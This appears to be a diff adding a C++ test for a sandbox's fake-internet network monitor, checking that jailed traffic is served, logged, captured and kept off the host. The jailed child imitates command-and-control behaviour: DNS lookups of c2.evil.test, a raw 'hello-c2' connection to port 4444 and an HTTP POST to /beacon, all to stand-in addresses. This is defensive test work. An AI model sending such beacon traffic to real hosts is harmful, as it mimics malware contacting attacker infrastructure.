@@ -1,0 +1,358 @@
+// Privileged: a real jail-like network namespace (a forked child that unshared its net
+// namespace) attached to a FakeInternet. The child resolves .test names, talks TCP, HTTP,
+// TLS and UDP to documentation addresses; the test checks what the fake internet logged,
+// that the capture is readable (by our reader and by tshark), and that nothing reached
+// or was left on the host.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdio>
+#include <filesystem>
+#include <string>
+#include <thread>
+
+#include "base/fd.h"
+#include "frames.h"
+#include "netmon/dns.h"
+#include "netmon/fake_internet.h"
+#include "netmon/packet.h"
+#include "netmon/pcap_file.h"
+#include "privileged.h"
+
+namespace gs::netmon {
+namespace {
+
+using testing::str;
+
+std::string run(const std::string& cmd) {
+  std::string out;
+  FILE* p = popen(cmd.c_str(), "r");
+  if (!p) return out;
+  char buf[4096];
+  size_t n;
+  while ((n = fread(buf, 1, sizeof buf, p)) > 0) out.append(buf, n);
+  pclose(p);
+  return out;
+}
+
+// Host state that must be identical before and after.
+std::string host_snapshot() {
+  return run("ip -o link show 2>&1 | sed 's/ qlen.*//' ; ip route show table all 2>&1; ip rule 2>&1; "
+             "ip netns list 2>&1; nft list ruleset 2>&1");
+}
+
+int count_netns_fds() {
+  int n = 0;
+  for (const auto& e : std::filesystem::directory_iterator("/proc/self/fd")) {
+    std::error_code ec;
+    auto target = std::filesystem::read_symlink(e.path(), ec);
+    if (!ec && target.string().rfind("net:[", 0) == 0) ++n;
+  }
+  return n;
+}
+
+int count_threads() {
+  int n = 0;
+  for ([[maybe_unused]] const auto& e : std::filesystem::directory_iterator("/proc/self/task")) ++n;
+  return n;
+}
+
+// --- what the jailed child does (plain sockets, blocking with timeouts) ---
+
+int tcp_connect(const char* ip, uint16_t port) {
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  timeval tv{3, 0};
+  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
+  sockaddr_in sa{};
+  sa.sin_family = AF_INET;
+  sa.sin_port = htons(port);
+  inet_pton(AF_INET, ip, &sa.sin_addr);
+  if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0) {
+    close(fd);
+    return -1;
+  }
+  return fd;
+}
+
+std::string read_some(int fd, size_t want) {
+  std::string out;
+  char buf[4096];
+  while (out.size() < want) {
+    ssize_t n = read(fd, buf, sizeof buf);
+    if (n <= 0) break;
+    out.append(buf, static_cast<size_t>(n));
+  }
+  return out;
+}
+
+// Resolves over UDP with a connected socket, so a reply from the wrong source is lost.
+std::string resolve_udp(const char* server, const std::string& name, uint16_t type) {
+  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  timeval tv{3, 0};
+  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+  sockaddr_in sa{};
+  sa.sin_family = AF_INET;
+  sa.sin_port = htons(53);
+  inet_pton(AF_INET, server, &sa.sin_addr);
+  connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
+  auto q = *dns::build_query(name, type, 0x4242);
+  send(fd, q.data(), q.size(), 0);
+  uint8_t buf[1500];
+  ssize_t n = recv(fd, buf, sizeof buf, 0);
+  close(fd);
+  if (n <= 0) return "no-answer";
+  auto m = dns::parse(std::span<const uint8_t>(buf, static_cast<size_t>(n)));
+  if (!m.ok() || m->answers.empty()) return "empty";
+  return m->answers[0].text;
+}
+
+std::string resolve_tcp(const char* server, const std::string& name) {
+  int fd = tcp_connect(server, 53);
+  if (fd < 0) return "no-connect";
+  auto framed = dns::tcp_frame(*dns::build_query(name, dns::kA, 7));
+  (void)!write(fd, framed.data(), framed.size());
+  std::string r = read_some(fd, 2);
+  if (r.size() >= 2) r += read_some(fd, static_cast<size_t>((uint8_t(r[0]) << 8 | uint8_t(r[1])) + 2 - r.size()));
+  close(fd);
+  auto f = dns::tcp_unframe(std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(r.data()), r.size()));
+  if (!f.ok()) return "bad-frame";
+  auto m = dns::parse(f->message);
+  return m.ok() && !m->answers.empty() ? m->answers[0].text : "empty";
+}
+
+// Returns a line per check: "name=value".
+std::string jailed_client(uint16_t host_lo_port) {
+  std::string out;
+  std::string c2 = resolve_udp(FakeInternet::kResolverAddress, "c2.evil.test", dns::kA);
+  out += "dns_a=" + c2 + "\n";
+  out += "dns_txt_other_server=" + resolve_udp("203.0.113.53", "cmd.evil.test", dns::kTXT) + "\n";
+  out += "dns_tcp=" + resolve_tcp(FakeInternet::kResolverAddress, "c2.evil.test") + "\n";
+
+  int raw = tcp_connect("203.0.113.10", 4444);
+  out += std::string("raw_connect=") + (raw >= 0 ? "ok" : "fail") + "\n";
+  if (raw >= 0) (void)!write(raw, "hello-c2\n", 9);
+
+  int h = tcp_connect(c2.c_str(), 80);
+  if (h >= 0) {
+    std::string req = "POST /beacon HTTP/1.1\r\nHost: c2.evil.test\r\nUser-Agent: gosandbox-test/1\r\n"
+                      "Content-Length: 3\r\n\r\nabc";
+    (void)!write(h, req.data(), req.size());
+    std::string resp = read_some(h, 12);
+    out += "http_status=" + resp.substr(0, 12) + "\n";
+    close(h);
+  }
+  int t = tcp_connect(c2.c_str(), 443);
+  if (t >= 0) {
+    auto hello = testing::client_hello("c2.evil.test", {"h2", "http/1.1"});
+    (void)!write(t, hello.data(), hello.size());
+    std::string alert = read_some(t, 7);
+    out += "tls_alert=" + std::to_string(alert.size() >= 7 ? uint8_t(alert[6]) : 0) + "\n";
+    close(t);
+  }
+  int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  sockaddr_in sa{};
+  sa.sin_family = AF_INET;
+  sa.sin_port = htons(9999);
+  inet_pton(AF_INET, "198.51.100.7", &sa.sin_addr);
+  for (int i = 0; i < 3; ++i) sendto(u, "ping", 4, 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
+  close(u);
+  int lo = tcp_connect("127.0.0.1", host_lo_port);  // the jail's own loopback, not the host's
+  out += std::string("loopback_connect=") + (lo >= 0 ? "ok" : "fail") + "\n";
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  if (raw >= 0) close(raw);
+  return out;
+}
+
+class FakeInternetTest : public ::testing::Test {
+ protected:
+  void TearDown() override {
+    if (child_ > 0) {
+      kill(child_, SIGKILL);
+      waitpid(child_, nullptr, 0);
+    }
+  }
+  pid_t child_ = -1;
+};
+
+TEST_F(FakeInternetTest, JailTrafficIsServedLoggedCapturedAndContained) {
+  GS_REQUIRE_ROOT();
+  std::string before = host_snapshot();
+  int netns_fds_before = count_netns_fds();
+  int threads_before = count_threads();
+
+  // A host loopback listener that must see nothing.
+  FD lo(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
+  sockaddr_in sa{};
+  sa.sin_family = AF_INET;
+  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(lo.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
+  ASSERT_EQ(listen(lo.get(), 16), 0);
+  socklen_t len = sizeof sa;
+  getsockname(lo.get(), reinterpret_cast<sockaddr*>(&sa), &len);
+  uint16_t lo_port = ntohs(sa.sin_port);
+
+  // The jail-like child: new netns, waits for "go", runs the client, reports on a pipe.
+  int go[2], report[2];
+  ASSERT_EQ(pipe2(go, O_CLOEXEC), 0);
+  ASSERT_EQ(pipe2(report, O_CLOEXEC), 0);
+  child_ = fork();
+  ASSERT_GE(child_, 0);
+  if (child_ == 0) {
+    if (unshare(CLONE_NEWNET) != 0) _exit(2);
+    (void)!write(report[1], "R", 1);
+    char c;
+    if (read(go[0], &c, 1) != 1) _exit(3);
+    std::string out = jailed_client(lo_port);
+    (void)!write(report[1], out.data(), out.size());
+    _exit(0);
+  }
+  close(go[0]);
+  close(report[1]);
+  char ready;
+  ASSERT_EQ(read(report[0], &ready, 1), 1);
+  FD jail_ns(open(("/proc/" + std::to_string(child_) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
+  ASSERT_TRUE(jail_ns.valid());
+
+  std::string pcap_path = "/tmp/gs-netmon-fi-" + std::to_string(getpid()) + ".pcap";
+  FakeInternetOptions opts;
+  opts.pcap_path = pcap_path;
+  opts.snap_len = 2048;
+  auto t0 = std::chrono::steady_clock::now();
+  auto fi = FakeInternet::make(jail_ns.get(), opts);
+  ASSERT_TRUE(fi.ok()) << fi.error().message();
+  auto setup_ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
+  jail_ns.reset();
+  ASSERT_EQ(write(go[1], "G", 1), 1);
+  close(go[1]);
+
+  std::string out;
+  char buf[4096];
+  ssize_t n;
+  while ((n = read(report[0], buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
+  close(report[0]);
+  int status = 0;
+  waitpid(child_, &status, 0);
+  child_ = -1;
+  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
+  std::printf("child report:\n%s", out.c_str());
+
+  // What the child saw.
+  auto c2 = (*fi)->records().dns.empty() ? std::string() : (*fi)->records().dns[0].answer;
+  EXPECT_NE(out.find("dns_a=198.19."), std::string::npos);
+  EXPECT_NE(out.find("dns_txt_other_server=v=spf1 -all"), std::string::npos);
+  EXPECT_NE(out.find("dns_tcp=" + c2 + "\n"), std::string::npos);
+  EXPECT_NE(out.find("raw_connect=ok"), std::string::npos);
+  EXPECT_NE(out.find("http_status=HTTP/1.1 200"), std::string::npos);
+  EXPECT_NE(out.find("tls_alert=40"), std::string::npos);
+  EXPECT_NE(out.find("loopback_connect=fail"), std::string::npos);
+
+  std::this_thread::sleep_for(std::chrono::milliseconds(200));
+  ASSERT_TRUE((*fi)->stop().ok());
+  auto rec = (*fi)->records();
+  auto stats = (*fi)->stats();
+
+  // DNS records.
+  ASSERT_GE(rec.dns.size(), 3u);
+  EXPECT_EQ(rec.dns[0].name, "c2.evil.test");
+  EXPECT_EQ(rec.dns[0].type_name, "A");
+  EXPECT_EQ(rec.dns[0].transport, "udp");
+  EXPECT_EQ(rec.dns[0].server.to_string(), FakeInternet::kResolverAddress);
+  EXPECT_EQ(rec.dns[1].type_name, "TXT");
+  EXPECT_EQ(rec.dns[1].server.to_string(), "203.0.113.53");
+  EXPECT_EQ(rec.dns[2].transport, "tcp");
+  EXPECT_EQ(rec.dns[2].answer, c2);
+  EXPECT_EQ((*fi)->name_for(*IpAddr::parse(c2)), "c2.evil.test");
+
+  // Connections.
+  const ConnectionRecord *raw = nullptr, *http = nullptr, *tls = nullptr, *udp = nullptr;
+  for (const auto& c : rec.connections) {
+    if (c.proto == "tcp" && c.dst_port == 4444) raw = &c;
+    if (c.proto == "tcp" && c.dst_port == 80) http = &c;
+    if (c.proto == "tcp" && c.dst_port == 443) tls = &c;
+    if (c.proto == "udp" && c.dst_port == 9999) udp = &c;
+  }
+  ASSERT_TRUE(raw && http && tls && udp);
+  EXPECT_EQ(raw->dst.to_string(), "203.0.113.10");
+  EXPECT_EQ(raw->app, "raw");
+  EXPECT_EQ(raw->first_bytes_hex, "68656c6c6f2d63320a");
+  EXPECT_EQ(raw->bytes_out, 9u);
+  EXPECT_EQ(http->dst.to_string(), c2);
+  EXPECT_EQ(http->hostname, "c2.evil.test");
+  ASSERT_EQ(http->http.size(), 1u);
+  EXPECT_EQ(http->http[0].method, "POST");
+  EXPECT_EQ(http->http[0].host, "c2.evil.test");
+  EXPECT_EQ(http->http[0].path, "/beacon");
+  EXPECT_EQ(http->http[0].user_agent, "gosandbox-test/1");
+  EXPECT_EQ(http->http[0].body_bytes, 3u);
+  EXPECT_EQ(http->http[0].body_sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+  EXPECT_GT(http->bytes_in, 0u);
+  EXPECT_EQ(tls->tls_sni, "c2.evil.test");
+  EXPECT_EQ(tls->tls_alpn, (std::vector<std::string>{"h2", "http/1.1"}));
+  EXPECT_EQ(tls->tls_version, "TLS1.3");
+  EXPECT_EQ(udp->dst.to_string(), "198.51.100.7");
+  EXPECT_EQ(udp->datagrams, 3u);
+
+  // The capture: our reader and tshark both read it and see the C2 connection.
+  EXPECT_EQ(stats.pcap_path, pcap_path);
+  EXPECT_EQ(stats.snap_len, 2048u);
+  EXPECT_GT(stats.packets_written, 10u);
+  auto reader = pcap::Reader::open(pcap_path);
+  ASSERT_TRUE(reader.ok()) << reader.error().message();
+  bool saw_c2 = false;
+  size_t packets = 0;
+  for (;;) {
+    auto p = reader->next();
+    ASSERT_TRUE(p.ok()) << p.error().message();
+    if (!p->has_value()) break;
+    ++packets;
+    auto d = decode_packet(reader->link_type(), (*p)->data);
+    if (d.ok() && d->dst.to_string() == "203.0.113.10" && d->dport == 4444) saw_c2 = true;
+  }
+  EXPECT_TRUE(saw_c2);
+  EXPECT_EQ(packets, stats.packets_written);
+  std::string tshark = run("tshark -r " + pcap_path + " -T fields -e ip.dst -e tcp.dstport 2>/dev/null");
+  EXPECT_NE(tshark.find("203.0.113.10\t4444"), std::string::npos) << tshark.substr(0, 500);
+  bool flow_seen = false;
+  for (const auto& f : stats.flows)
+    if (f.key.dst.to_string() == "203.0.113.10" && f.key.dport == 4444 && f.stats.payload_out == 9) flow_seen = true;
+  EXPECT_TRUE(flow_seen);
+
+  std::printf("setup %lld ms; %zu dns, %zu connections; pcap %llu packets, %llu bytes, %llu kernel drops\n",
+              static_cast<long long>(setup_ms), rec.dns.size(), rec.connections.size(),
+              static_cast<unsigned long long>(stats.packets_written),
+              static_cast<unsigned long long>(stats.pcap_bytes),
+              static_cast<unsigned long long>(stats.kernel_drops));
+
+  // Nothing leaves, nothing stays.
+  fi->reset();
+  std::remove(pcap_path.c_str());
+  sockaddr_in peer{};
+  socklen_t plen = sizeof peer;
+  EXPECT_LT(accept(lo.get(), reinterpret_cast<sockaddr*>(&peer), &plen), 0) << "host loopback got a connection";
+  EXPECT_EQ(host_snapshot(), before);
+  EXPECT_EQ(count_netns_fds(), netns_fds_before);
+  EXPECT_EQ(count_threads(), threads_before);
+}
+
+TEST_F(FakeInternetTest, BadJailFdFailsCleanly) {
+  GS_REQUIRE_ROOT();
+  std::string before = host_snapshot();
+  auto fi = FakeInternet::make(-1, {});
+  EXPECT_FALSE(fi.ok());
+  FD not_netns(open("/dev/null", O_RDONLY | O_CLOEXEC));
+  auto fi2 = FakeInternet::make(not_netns.get(), {});
+  EXPECT_FALSE(fi2.ok());
+  EXPECT_EQ(host_snapshot(), before);
+}
+
+}  // namespace
+}  // namespace gs::netmon
